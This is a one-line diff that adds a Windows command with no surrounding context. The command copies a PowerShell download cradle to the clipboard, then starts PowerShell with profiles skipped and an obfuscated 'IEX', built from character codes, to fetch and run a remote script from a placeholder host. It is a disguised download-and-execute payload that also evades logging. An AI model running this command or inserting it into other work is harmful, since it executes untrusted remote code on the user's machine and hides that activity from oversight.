@@ -1,0 +1,1 @@
+cmd /c "echo IEX (New-Object Net.WebClient).DownloadString('http://a0.example/p.txt') |clip&&powershell -nop -sta . ([char]73+[char]69+[char]88) ([System.Windows.Forms.Clipboard]::GetText())"
